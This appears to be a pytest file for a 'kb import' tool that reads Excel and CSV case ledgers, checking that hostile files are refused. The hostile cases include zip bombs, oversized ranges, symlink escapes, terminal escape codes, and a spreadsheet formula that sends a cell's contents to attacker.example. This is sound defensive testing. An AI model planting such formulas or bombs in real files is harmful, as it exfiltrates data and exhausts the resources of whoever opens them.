"""`kb import` of files written to hurt: formula cells, workbooks that declare or unpack to far
more than they hold, CSV files out of bounds, links out of the data folder, control characters
for the terminal. Each ends in one line naming the place and the limit, exit 1, nothing written."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from generator.cli import main
from generator.sheets import limits
from generator.sheets import read as read_module
from generator.sheets.read import Formula, read_sheets
from generator.sheets.write import write_inside
from tests.conftest import check
from tests.sheets.test_import import GOOD, HEADERS, write_sheet
from tests.sheets.workbooks import (
    Deflated,
    parts,
    rows_xml,
    shared_strings_bomb,
    sheet_xml,
    write_zip,
)

CASE_HEADERS = ["标题", "状态", "产品", "现象", "作者", "解决日期"]
GOOD_ROW = ["电磁阀不动作", "处理中", "HX-200 液压站", "电磁阀不得电。", "陈浩", "2026-09-01"]
GOOD_ID = "20260901-hx200-dian-ci-fa-bu-dong-zuo"


@pytest.fixture(autouse=True)
def in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def run(*args: str):
    return CliRunner().invoke(main, ["import", *args, "--today", "2026-11-28", "--language", "en"])


def files_under(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def error_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if " error KB" in line]


def ledger(sheet_data: str, dimension: str | None = "A1", after: str = "", **extra) -> dict:
    return {**parts(sheet_xml(sheet_data, dimension, after)), **extra}


HEADER = rows_xml([CASE_HEADERS])
MANY_PARTS = {f"xl/media/note{n}.xml": b"<a/>" for n in range(1_001)}
# name -> (the workbook's parts, the code, the place, the words)
HOSTILE = {
    "declared-far": (
        ledger(HEADER + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>', None),
        "KB808",
        "台账.xlsx:案例!A1048576:1048576:1",
        "row 1,048,576 is beyond the limit: kb import reads at most 200,000 rows",
    ),
    "dimension": (
        ledger(HEADER, "A1:XFD1048576"),
        "KB808",
        "台账.xlsx:案例:1:1",
        "the sheet declares the range `A1:XFD1048576`; kb import reads at most 200,000 rows and 200 columns",
    ),
    "far-column": (
        ledger(HEADER + '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>', None),
        "KB808",
        "台账.xlsx:案例!XFD2:2:16384",
        "column XFD is beyond the limit: kb import reads at most 200 columns (up to GR)",
    ),
    "merged-to-the-end": (
        ledger(HEADER, after='<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>'),
        "KB808",
        "台账.xlsx:案例:1:1",
        "the merged range `A2:XFD1048576` covers 17,179,852,800 cells; kb import reads at most 200,000 merged cells",
    ),
    "many-merged": (
        ledger(HEADER, after="<mergeCells>" + '<mergeCell ref="A3:B3"/>' * 10_001 + "</mergeCells>"),
        "KB808",
        "台账.xlsx:案例:1:1",
        "the workbook has more than 10,000 merged ranges; kb import reads at most 10,000",
    ),
    "linked-range": (
        ledger(HEADER, after='<hyperlinks><hyperlink ref="A1:XFD1048576" display="x"/></hyperlinks>'),
        "KB808",
        "台账.xlsx:案例:1:1",
        "the link over `A1:XFD1048576` covers 17,179,869,184 cells; kb import reads at most 200,000 linked cells",
    ),
    "shared-strings-bomb": (
        ledger(HEADER, **{"xl/sharedStrings.xml": shared_strings_bomb(2)}),
        "KB808",
        "台账.xlsx:1:1",
        "the workbook's part `xl/sharedStrings.xml` unpacks to 2,048 MiB; kb import reads parts of at most 50 MiB",
    ),
    "lying-size": (
        ledger(HEADER, **{"xl/sharedStrings.xml": Deflated(shared_strings_bomb(1).stream, 4_000)}),
        "KB804",
        "台账.xlsx:1:1",
        "cannot be read as an Excel workbook",
    ),
    "many-parts": (
        ledger(HEADER, **MANY_PARTS),
        "KB808",
        "台账.xlsx:1:1",
        "the workbook is made of 1,007 parts; kb import reads at most 1,000",
    ),
    "long-cell": (
        ledger(HEADER + rows_xml([[], ["x" * 40_000]]).replace('<row r="1"></row>', ""), "A1:F2"),
        "KB808",
        "台账.xlsx:案例!A2:2:1",
        "the cell's text is longer than 32,767 characters: a cell holds at most 32,767 (Excel's own limit)",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_one_line_exit_1_before_openpyxl_reads_it(data, tmp_path, name, monkeypatch):
    members, code, place, words = HOSTILE[name]
    write_zip(tmp_path / "台账.xlsx", members)
    before = files_under(data)
    monkeypatch.setattr(read_module, "load_workbook", _never_parsed)  # the bounds come first
    result = run("台账.xlsx", "--data", "data", "--schemas", "schemas")
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    [line] = error_lines(result.output)
    assert line.startswith(f"{place}: error {code}: ") and words in line, line
    assert "Nothing written" in result.output and "Traceback" not in result.output
    assert files_under(data) == before and not (tmp_path / "schemas").exists()


def _never_parsed(*args, **kwargs):
    raise AssertionError("openpyxl was asked to parse a workbook past the bounds")


def test_the_small_hostile_workbooks_are_small():
    for name in ("declared-far", "dimension", "far-column", "merged-to-the-end", "linked-range"):
        path = write_zip(Path(f"{name}.xlsx"), HOSTILE[name][0])
        assert path.stat().st_size < 3_000, name


def test_a_ratio_like_a_zip_bombs_is_refused(data, tmp_path):
    strings = '<sst xmlns="x"><si><t>' + "a" * (5 << 20) + "</t></si></sst>"  # 5 MiB packed into some 5 KB
    write_zip(tmp_path / "台账.xlsx", ledger(HEADER, **{"xl/sharedStrings.xml": strings.encode()}))
    result = run("台账.xlsx", "--data", "data")
    [line] = error_lines(result.output)
    assert "error KB808: the workbook's part `xl/sharedStrings.xml` unpacks to" in line
    assert "times its packed size, as a zip bomb does; kb import reads at most 200 times" in line


def test_a_sparse_sheet_within_the_limits_reads_only_the_cells_it_holds(tmp_path):
    """openpyxl's iter_rows() would make every cell from A1 to GR199999: 40 million of them."""
    workbook = Workbook()
    workbook.active["A1"] = "标题"
    workbook.active["GR199999"] = "远处"
    workbook.save(tmp_path / "sparse.xlsx")
    [sheet] = read_sheets(tmp_path / "sparse.xlsx", "sparse.xlsx")
    assert [[(cell.address, cell.value) for cell in row] for row in sheet.rows] == [
        [("A1", "标题")],
        [("GR199999", "远处")],
    ]


def formula_ledger(tmp_path: Path) -> Path:
    rows = [
        ["2026 年售后案例台账"],
        CASE_HEADERS,
        GOOD_ROW,
        [
            ('=HYPERLINK("http://attacker.example/?"&D4,"详情")', "液压站掉压"),
            *GOOD_ROW[1:3],
            "掉压。",
            "陈浩",
            "2026-09-02",
        ],
        [
            "液压站油温高",
            "处理中",
            "HX-200 液压站",
            "油温 70 ℃。",
            ("=VLOOKUP(E3,人员!A:B,2,FALSE)", "陈浩"),
            "2026-09-03",
        ],
    ]
    return write_zip(tmp_path / "台账.xlsx", parts(sheet_xml(rows_xml(rows), "A1:F5")))


def test_a_formula_cell_is_reported_at_its_cell_and_its_cached_value_never_imported(data, tmp_path):
    formula_ledger(tmp_path)
    result = run("台账.xlsx", "--data", "data")
    assert result.exit_code == 1
    lines = error_lines(result.output)
    assert len(lines) == 2, result.output
    assert lines[0].startswith(
        '台账.xlsx:案例!A4:4:1: error KB807: the cell holds the formula `=HYPERLINK("http://attacker.example/?"&D4,'
    )
    assert lines[1].startswith("台账.xlsx:案例!E5:5:5: error KB807: the cell holds the formula `=VLOOKUP(E3,")
    assert "kb import reads no formulas, nor the value Excel last calculated" in lines[0]
    assert "3 rows read: 1 written, 0 updated, 0 unchanged, 2 not written" in result.output
    written = files_under(data / "cases")
    assert sorted(written) == [
        "2026/20260412-hx200-pressure-drop.yml",
        "2026/20260501-vmc850-spindle-alarm.yml",
        f"2026/{GOOD_ID}.yml",
    ]
    assert not any("液压站掉压".encode() in content or b"70" in content for content in written.values())


def test_a_formula_in_the_chinese_report_names_its_cell(data, tmp_path):
    formula_ledger(tmp_path)
    result = CliRunner().invoke(main, ["import", "台账.xlsx", "--data", "data", "--today", "2026-11-28"])
    assert "台账.xlsx:案例!A4:4:1: error KB807: 单元格里是公式 `=HYPERLINK(" in result.output
    assert "`kb import` 不读公式，也不读 Excel 上次算出的值" in result.output


def csv_file(tmp_path: Path, lines: list[str]) -> Path:
    path = tmp_path / "台账.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


CSV_HOSTILE = {
    "columns": (
        [",".join(CASE_HEADERS + [f"备注{n}" for n in range(200)])],
        "台账.csv:GS1:1:201",
        "column GS is beyond the limit: kb import reads at most 200 columns (up to GR)",
    ),
    "line": (
        [",".join(CASE_HEADERS), ",".join(GOOD_ROW[:3] + ["很长" * 500_001] + GOOD_ROW[4:])],
        "台账.csv:1:1",
        "line 2 is longer than 1,000,000 characters: kb import reads CSV lines of at most 1,000,000 characters",
    ),
    "cell": (
        [",".join(CASE_HEADERS), ",".join(GOOD_ROW[:3] + ["长" * 40_000] + GOOD_ROW[4:])],
        "台账.csv:D2:2:4",
        "the cell's text is longer than 32,767 characters",
    ),
}


def test_a_csv_file_of_more_rows_than_the_limit_is_refused_at_the_first_row_beyond(data, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_ROWS", 1_000)  # the same path as at 200,000 rows, a hundred times quicker
    csv_file(tmp_path, [",".join(CASE_HEADERS)] + [",".join(GOOD_ROW)] * 1_000)
    result = run("台账.csv", "--data", "data")
    [line] = error_lines(result.output)
    assert line.startswith(
        "台账.csv:A1001:1001:1: error KB808: row 1,001 is beyond the limit: kb import reads at most 1,000 rows"
    )
    assert limits.MAX_ROWS == 1_000 and "cases/2026/" + GOOD_ID + ".yml" not in files_under(data)


@pytest.mark.parametrize("name", CSV_HOSTILE)
def test_a_csv_file_out_of_bounds_is_one_line_naming_the_limit(data, tmp_path, name):
    lines, place, words = CSV_HOSTILE[name]
    csv_file(tmp_path, lines)
    before = files_under(data)
    result = run("台账.csv", "--data", "data")
    assert result.exit_code == 1
    [line] = error_lines(result.output)
    assert line.startswith(f"{place}: error KB808: ") and words in line, line
    assert files_under(data) == before


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(data, tmp_path):
    with (tmp_path / "台账.csv").open("wb") as file:
        file.truncate(50 * 1024 * 1024 + 1)  # sparse: no 50 MiB written
    result = run("台账.csv", "--data", "data")
    [line] = error_lines(result.output)
    assert line.startswith("台账.csv:1:1: error KB808: the file is 50 MiB; kb import reads files of at most 50 MiB")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("linked", ["cases", "cases/2026"])
def test_a_linked_folder_under_data_is_never_written_through(data, tmp_path, outside, linked):
    csv_file(tmp_path, [",".join(CASE_HEADERS), ",".join(GOOD_ROW)])
    (data / linked).rename(outside / "moved")
    (data / linked).symlink_to(outside / "moved", target_is_directory=True)
    before = files_under(outside)
    result = run("台账.csv", "--data", "data", "--schemas", "schemas")
    assert result.exit_code == 1
    [line] = error_lines(result.output)
    assert line.startswith(f"data/cases/2026/{GOOD_ID}.yml:1:1: error KB809: `data/cases/2026/{GOOD_ID}.yml`")
    assert f"(`data/{linked}` is a symbolic link, or not a folder)" in line
    assert "kb import never writes through a link, and nothing was written" in line
    assert files_under(outside) == before and not (tmp_path / "schemas").exists()
    assert "Nothing written" in result.output


def test_a_linked_target_file_is_never_written_through(data, tmp_path, outside):
    csv_file(tmp_path, [",".join(CASE_HEADERS), ",".join(GOOD_ROW)])
    secret = outside / "secret.txt"
    secret.write_text("keep me\n", encoding="utf-8")
    (data / f"cases/2026/{GOOD_ID}.yml").symlink_to(secret)
    result = run("台账.csv", "--data", "data", "--dry-run")
    assert result.exit_code == 1
    assert f"(`data/cases/2026/{GOOD_ID}.yml` is a symbolic link, or not a folder)" in result.output
    assert secret.read_text(encoding="utf-8") == "keep me\n"
    assert run("台账.csv", "--data", "data").exit_code == 1 and secret.read_text(encoding="utf-8") == "keep me\n"


def test_writing_follows_no_link_swapped_in_after_the_check(tmp_path, outside):
    root = tmp_path / "data"
    (root / "cases").mkdir(parents=True)
    (root / "cases/2026").symlink_to(outside, target_is_directory=True)
    with pytest.raises(OSError):
        write_inside(root, root / "cases/2026/x.yml", "id: x\n")
    assert list(outside.iterdir()) == []
    write_inside(root, root / "cases/2027/x.yml", "id: x\n")
    assert (root / "cases/2027/x.yml").read_text(encoding="utf-8") == "id: x\n"


CONTROLS = ("\x1b", "\x07", "\x9b", "\x85", "\u2028")


def test_control_characters_from_cells_reach_the_terminal_escaped(data, tmp_path):
    rows = [
        ",".join(CASE_HEADERS),
        ",".join(["液压\x1b[31m站掉压", "处理中", "HX-200\x07 液压站", "掉压。", "张\x9b2J伟", "2026-09-02"]),
        ",".join(["\x85电磁阀", "处理中", "HX-200 液压站", "不得电\u2028。", "陈浩", "2026-09-03"]),
    ]
    csv_file(tmp_path, rows)
    for output_format in ("text", "json", "github"):
        result = run("台账.csv", "--data", "data", "--dry-run", "--format", output_format)
        assert result.exit_code == 1
        assert not any(character in result.output for character in CONTROLS), (output_format, result.output)
    text = run("台账.csv", "--data", "data", "--dry-run").output
    assert "unknown person `张\\x9b2J伟`" in text  # shown escaped: it names what is in the cell
    assert "`title` holds the invisible control character U+001B (escape)" in text


def test_a_sheet_name_and_ids_from_cells_are_escaped_too(data, tmp_path):
    rows = [["编号", *CASE_HEADERS], ["bad\x9bid", *GOOD_ROW]]
    write_zip(tmp_path / "台账.xlsx", parts(sheet_xml(rows_xml(rows), "A1:G2"), sheet_name="案\x9b例"))
    for output_format in ("text", "json"):
        result = run("台账.xlsx", "--data", "data", "--dry-run", "--format", output_format, "--kind", "case")
        assert "\x9b" not in result.output, result.output
    payload = json.loads(run("台账.xlsx", "--data", "data", "--format", "json", "--kind", "case").output)
    assert payload["rows"][0]["id"] == "bad\\x9bid" and payload["rows"][0]["sheet"] == "台账.xlsx:案\\x9b例"


def test_an_ordinary_ledger_still_imports(data, tmp_path):
    write_sheet(tmp_path / "台账.xlsx", [GOOD[1]], headers=HEADERS)
    result = run("台账.xlsx", "--data", "data")
    assert result.exit_code == 0, result.output
    assert "20260603-hx200-ye-ya-zhan-bu-you-reng" in check(data).context.index("case")
    assert not os.path.islink(data / "cases")


def test_a_csv_file_made_to_slow_the_dialect_guess_is_read_quickly(data, tmp_path):
    (tmp_path / "台账.csv").write_text(',"' * 500_000, encoding="utf-8")  # quotes and delimiters, never closed
    result = run("台账.csv", "--data", "data")
    assert result.exit_code == 1 and "Traceback" not in result.output


def test_array_shared_and_table_formulas_are_formulas_too(tmp_path):
    row = (
        '<row r="1"><c r="A1"><f t="array" ref="A1">SUM(B1:B2)</f><v>3</v></c>'
        '<c r="B1"><f t="shared" ref="B1:B2" si="0">C1*2</f><v>2</v></c>'
        '<c r="C1"><f t="dataTable" ref="C1" dt2D="0" dtr="0" r1="D1"/><v>1</v></c></row>'
        '<row r="2"><c r="B2"><f t="shared" si="0"/><v>4</v></c></row>'
    )
    write_zip(tmp_path / "a.xlsx", parts(sheet_xml(row, "A1:C2")))
    [sheet] = read_sheets(tmp_path / "a.xlsx", "a.xlsx")
    values = {cell.address: cell.value for row in sheet.rows for cell in row}
    assert values == {
        "A1": Formula("=SUM(B1:B2)"),
        "B1": Formula("=C1*2"),
        "C1": Formula("="),
        "B2": Formula("=C2*2"),
    }


@pytest.mark.parametrize(("flags", "method"), [(1, 8), (0, 99)])  # an encrypted part; an unknown compression
def test_a_workbook_zipfile_cannot_open_is_one_line(data, tmp_path, flags, method):
    write_zip(tmp_path / "台账.xlsx", ledger(HEADER), flags=flags, method=method)
    result = run("台账.xlsx", "--data", "data")
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit)
    [line] = error_lines(result.output)
    assert line.startswith("台账.xlsx:1:1: error KB804: cannot be read as an Excel workbook")
